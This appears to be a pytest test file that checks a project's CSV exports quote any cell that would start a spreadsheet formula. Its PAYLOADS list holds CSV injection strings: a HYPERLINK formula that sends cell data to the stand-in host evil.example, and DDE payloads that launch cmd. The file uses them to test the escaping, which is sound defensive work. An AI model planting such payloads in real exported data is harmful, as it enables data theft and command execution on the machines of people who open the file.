"""Every CSV kith writes opens in a spreadsheet as text: names that start a formula are quoted (OWASP).

The city's schools, agencies and services are renamed to formula payloads, then every CSV path is
read back: the CLI's nearby, path, gaps, deserts and network, the quarantine file, and the
dashboard's Export CSV.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from kith.cli import cli
from kith.dashboard.data import DashboardData
from kith.dashboard.pages import gaps as gaps_page
from kith.graph.model import Label
from kith.graph.store import open_store
from kith.ingest import demo_city
from kith.ingest.report import write_quarantine
from kith.settings import KithSettings
from kith.trust.spreadsheet import FORMULA_STARTS, safe_cell

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"help")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTab Center",
    "\rCR Center",
)


def _unsafe(cells: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting a formula and not a plain negative number."""
    return [c for row in cells for c in row if c.startswith(FORMULA_STARTS) and safe_cell(c) != c]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("-1+1", "'-1+1"),
        ("-71.0843", "-71.0843"),
        ("-1e3", "-1e3"),
        ("-", "'-"),
        ("Food Bank", "Food Bank"),
        ("", ""),
        (None, None),
        (-3, -3),
        (2.5, 2.5),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_that_opens_a_formula_is_quoted(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


@pytest.fixture(scope="module")
def evil(small_city: demo_city.City, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, KithSettings]:
    """A home whose schools, agencies and services all carry formula names."""
    home = tmp_path_factory.mktemp("kith-home")
    settings = KithSettings(_env_file=None, home=home, neo4j_uri=None)
    n = 0
    nodes = []
    for node in small_city.nodes:
        if node.label in (Label.SCHOOL, Label.AGENCY, Label.SERVICE):
            node = node.model_copy(update={"name": PAYLOADS[n % len(PAYLOADS)]})
            n += 1
        nodes.append(node)
    store = open_store(settings)
    try:
        store.upsert_nodes(nodes)
        store.upsert_relationships(small_city.rels)
    finally:
        store.close()
    return home, settings


def _cli_csv(home: Path, *args: str) -> list[list[str]]:
    result = CliRunner(env={"KITH_HOME": str(home), "KITH_NEO4J_URI": ""}).invoke(
        cli, [*args, "--format", "csv"], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    cells = list(csv.reader(io.StringIO(result.stdout)))
    assert len(cells) > 1, result.stdout
    return cells


@pytest.mark.parametrize(
    "args",
    [
        ("nearby", "--near", "42.35,-71.06", "--radius-km", "50", "--limit", "60"),
        ("gaps", "--need", "food", "--by", "school"),
        ("deserts", "--need", "food", "--by", "school", "--rule", "percentile", "--threshold", "90"),
        ("network",),
        ("network", "--section", "suggestions"),
    ],
    ids=lambda a: "-".join(a[:3]),
)
def test_cli_csv_has_no_formula_cells(evil: tuple[Path, KithSettings], args: tuple[str, ...]) -> None:
    cells = _cli_csv(evil[0], *args)
    assert not _unsafe(cells)
    assert any(c.startswith("'") and c[1:] in PAYLOADS for row in cells for c in row), cells[:3]


def test_path_csv_has_no_formula_cells(evil: tuple[Path, KithSettings], small_city: demo_city.City) -> None:
    school = next(n for n in small_city.nodes if n.label is Label.SCHOOL)
    cells = _cli_csv(evil[0], "path", f"school:{school.id}", "need:food", "--k", "3")
    assert not _unsafe(cells)
    assert any(row[-1].startswith("'") for row in cells[1:])  # the explanation opens with the school's name


def test_quarantine_file_has_no_formula_cells(tmp_path: Path) -> None:
    path = write_quarantine(
        tmp_path, "agencies", [("=cmd.csv", "2", "@name", "-is required"), ("a.csv", "3", "+x", "\tlong")]
    )
    assert path is not None
    cells = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert not _unsafe(cells)
    assert cells[1] == ["'=cmd.csv", "2", "'@name", "'-is required"]


def test_dashboard_export_csv_has_no_formula_cells(evil: tuple[Path, KithSettings]) -> None:
    data = DashboardData.open(evil[1])
    try:
        download = gaps_page.csv_file(data, "food", "school")
    finally:
        data.close()
    cells = list(csv.reader(io.StringIO(download["content"])))
    assert download["filename"].endswith(".csv") and cells[0][0] == "#" and len(cells) > 1
    assert not _unsafe(cells)
    assert any(c.startswith("'") and c[1:] in PAYLOADS for row in cells for c in row)
